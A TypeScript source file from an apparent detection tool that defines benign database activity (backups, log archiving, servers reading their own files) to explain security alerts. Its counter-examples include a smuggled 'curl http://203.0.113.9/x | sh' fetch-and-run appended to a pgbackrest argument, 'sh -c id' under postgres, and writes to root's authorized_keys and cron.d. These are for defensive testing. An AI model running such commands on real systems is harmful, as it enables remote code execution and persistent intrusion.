import type { Facts } from "#alert/facts.ts";
import type { BenignPattern } from "../benign.ts";
import { ordinaryActivity } from "./activity.ts";
import { executing, inContainer, onHost, reading, writing } from "./examples.ts";
import { callsOf, readsOf, writesOf } from "./trust.ts";

/** What databases do for themselves. */

const databases = [
  "postgres",
  "postmaster",
  "mysqld",
  "mariadbd",
  "mongod",
  "patroni",
  "repmgrd",
  "pgbackrest",
  "wal-g",
  "barman-wal-arch",
];

export const databasePatterns: readonly BenignPattern[] = [
  ordinaryActivity({
    id: "database-archives",
    activity: "A database archives its log or makes a backup of itself",
    distinguishing: [
      "The command is the `archive_command` or the backup job in the database's settings, and runs every few minutes.",
      "It is the archiving program itself without a shell around anything else, and the address is your backup store.",
      "Shells, curl or id below a database are what SQL injection looks like (`COPY ... TO PROGRAM`).",
    ],
    explains: ["database-spawns-program", "runs-shell", "sends-to-cloud-storage"],
    programs: [
      "pgbackrest",
      "wal-g",
      "barman-wal-archive",
      "pg_dump",
      "pg_dumpall",
      "pg_basebackup",
      "mysqldump",
      "mariadb-dump",
      "mariabackup",
      "xtrabackup",
      "mongodump",
      "pg_rewind",
      "pg_controldata",
      "pg_ctl",
      "pg_receivewal",
      "vacuumdb",
      "initdb",
    ],
    executables: [
      "/usr/bin/pgbackrest",
      "/usr/local/bin/wal-g",
      "/usr/bin/wal-g",
      "/usr/bin/barman-wal-archive",
      "/usr/bin/pg_dump",
      "/usr/bin/mysqldump",
      "/usr/bin/mariadb-dump",
      "/usr/bin/mongodump",
      "/usr/lib/postgresql/",
      "/usr/pgsql-16/bin/",
      "/usr/pgsql-17/bin/",
    ],
    startedBy: [...databases, "cron", "crond", "systemd", "runc", "containerd-shim"],
    does: (facts) =>
      callsOf(facts, "execve", "clone", "vfork") ??
      writesOf(
        facts,
        "/var/lib/pgbackrest/",
        "/var/lib/postgresql/",
        "/backup/",
        "/backups/",
        "/var/backups/",
        "/var/spool/pgbackrest/",
      ) ??
      readsOf(facts, "/var/lib/postgresql/", "/var/lib/mysql/", "/etc/pgbackrest/", "/etc/pgbackrest.conf"),
    provenWhen: (facts) => facts.process.terminal !== true && isArchiving(facts),
    and: "it archives as the database's settings ask for",
    examples: {
      proven: [
        onHost("pgbackrest", "/usr/bin/pgbackrest", "postgres", {
          ...executing("pgbackrest --stanza=main archive-push pg_wal/000000010000000000000042"),
          "user.name": "postgres",
          "user.uid": 112,
        }),
      ],
      named: [
        onHost("pg_dump", "/usr/bin/pg_dump", "bash", {
          ...executing("pg_dump -Fc shop"),
          "user.name": "postgres",
          "user.uid": 112,
          "proc.tty": 34816,
        }),
      ],
      ignored: [
        onHost("sh", "/usr/bin/dash", "postgres", executing("sh -c id")),
        onHost("pgbackrest", "/var/tmp/pgbackrest", "postgres", executing("pgbackrest archive-push x")),
        onHost(
          "pgbackrest",
          "/usr/bin/pgbackrest",
          "postgres",
          executing("pgbackrest archive-push x; curl http://203.0.113.9/x | sh"),
        ),
      ],
    },
  }),

  ordinaryActivity({
    id: "database-own-work",
    activity: "A database server works on its own files",
    distinguishing: [
      "It starts its own helpers and touches its own data folder.",
      "Anything else below a database (shells, interpreters, network tools) is what an injection looks like.",
    ],
    explains: ["database-spawns-program", "reads-tls-private-key", "visited-over-network"],
    programs: ["postgres", "mysqld", "mariadbd", "mongod", "redis-server", "pg_ctl", "pg_ctlcluster", "valkey-server"],
    executables: [
      "/usr/lib/postgresql/",
      "/usr/pgsql-16/bin/",
      "/usr/pgsql-17/bin/",
      "/usr/sbin/mysqld",
      "/usr/sbin/mariadbd",
      "/usr/bin/mongod",
      "/usr/bin/redis-server",
      "/usr/local/bin/redis-server",
      "/usr/local/bin/postgres",
      "/usr/bin/valkey-server",
    ],
    startedBy: [
      "systemd",
      "init",
      "postgres",
      "pg_ctl",
      "pg_ctlcluster",
      "mysqld_safe",
      "mariadbd-safe",
      "runc",
      "containerd-shim",
      "docker-entrypoi",
      "docker-entrypoint.sh",
      "patroni",
    ],
    does: (facts) =>
      writesOf(
        facts,
        "/var/lib/postgresql/",
        "/var/lib/mysql/",
        "/var/lib/mongodb/",
        "/data/db/",
        "/var/lib/redis/",
        "/run/",
        "/var/run/",
        "/var/log/",
      ) ??
      readsOf(
        facts,
        "/var/lib/",
        "/etc/postgresql/",
        "/etc/mysql/",
        "/etc/my.cnf",
        "/etc/redis/",
        "/usr/share/",
        "/etc/ssl/",
      ) ??
      callsOf(facts, "execve", "clone", "fork", "vfork", "setuid", "setgid"),
    provenWhen: (facts) => facts.process.terminal !== true,
    and: "it works on what is its own",
    examples: {
      proven: [
        onHost("postgres", "/usr/lib/postgresql/16/bin/postgres", "systemd", {
          ...reading("/etc/ssl/private/ssl-cert-snakeoil.key"),
          "user.name": "postgres",
          "user.uid": 112,
        }),
      ],
      named: [inContainer("mysqld", "/usr/sbin/mysqld", "containerd-shim", reading("/etc/my.cnf"))],
      ignored: [
        onHost("postgres", "/tmp/postgres", "systemd", reading("/etc/ssl/private/x.key")),
        onHost("postgres", "/usr/lib/postgresql/16/bin/postgres", "systemd", writing("/root/.ssh/authorized_keys")),
        onHost("redis-server", "/usr/bin/redis-server", "systemd", writing("/etc/cron.d/x")),
      ],
    },
  }),
];

/** The words of archiving, nothing that restores or runs a program. */
function isArchiving(facts: Facts): boolean {
  const text = facts.process.command.text.slice(0, 2_000);
  return !/(?:--program|PROGRAM|\brestore\b|--recovery-option|--cmd|\bexec\b)/.test(text);
}
